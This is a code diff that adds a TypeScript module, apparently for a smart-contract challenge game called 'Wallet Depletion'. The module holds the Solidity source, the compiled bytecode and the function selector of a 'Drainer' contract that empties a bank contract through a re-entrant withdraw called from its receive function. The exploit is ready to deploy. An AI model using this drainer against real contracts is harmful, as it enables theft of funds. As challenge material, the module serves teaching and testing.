@@ -1,0 +1,40 @@
+/**
+ * A player's re-entrancy attacker for Wallet Depletion: deposits, withdraws, and withdraws again from its receive
+ * function before the bank has written the balance down. Compiled once (solc, the chain's settings) so that the
+ * attack needs no compiler; the chain test recompiles the source and compares.
+ */
+export const DRAINER_SOURCE = `// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.24;
+interface IBank { function deposit() external payable; function withdraw(uint256 amount) external; }
+contract Drainer {
+    IBank private immutable bank;
+    uint256 private stake;
+    uint256 private rounds;
+    constructor(IBank target) { bank = target; }
+    function attack() external payable {
+        stake = msg.value;
+        bank.deposit{value: msg.value}();
+        bank.withdraw(msg.value);
+    }
+    receive() external payable {
+        if (rounds < 3) { rounds++; bank.withdraw(stake); }
+    }
+}`
+
+export const DRAINER_BYTECODE = [
+  '0x60a0604052348015600e575f5ffd5b50604051610297380380610297833981016040819052602b91603b565b6001600160a01b031660',
+  '80526066565b5f60208284031215604a575f5ffd5b81516001600160a01b0381168114605f575f5ffd5b9392505050565b60805161020d',
+  '61008a5f395f8181605d0152818160ce015261014e015261020d5ff3fe608060405260043610610020575f3560e01c80639e5faafc1461',
+  '00c3575f5ffd5b366100bf57600360015410156100bd5760018054905f61003f836101b3565b90915550505f54604051632e1a7d4d60e0',
+  '1b815260048101919091527f00000000000000000000000000000000000000000000000000000000000000006001600160a01b03169063',
+  '2e1a7d4d906024015f604051808303815f87803b1580156100a6575f5ffd5b505af11580156100b8573d5f5f3e3d5ffd5b505050505b00',
+  '5b5f5ffd5b6100bd345f819055507f00000000000000000000000000000000000000000000000000000000000000006001600160a01b03',
+  '1663d0e30db0346040518263ffffffff1660e01b81526004015f604051808303818588803b158015610125575f5ffd5b505af115801561',
+  '0137573d5f5f3e3d5ffd5b5050604051632e1a7d4d60e01b81523460048201527f00000000000000000000000000000000000000000000',
+  '000000000000000000006001600160a01b03169350632e1a7d4d925060240190505f604051808303815f87803b15801561019b575f5ffd',
+  '5b505af11580156101ad573d5f5f3e3d5ffd5b50505050565b5f600182016101d057634e487b7160e01b5f52601160045260245ffd5b50',
+  '6001019056fea264697066735822122095c7cce0f9da7722169f14af5a16d22c7246880de65629b8ae9084fe878fb47464736f6c634300',
+  '08250033',
+].join('')
+
+export const DRAINER_SELECTORS: Record<string, string> = { 'attack()': '9e5faafc' }
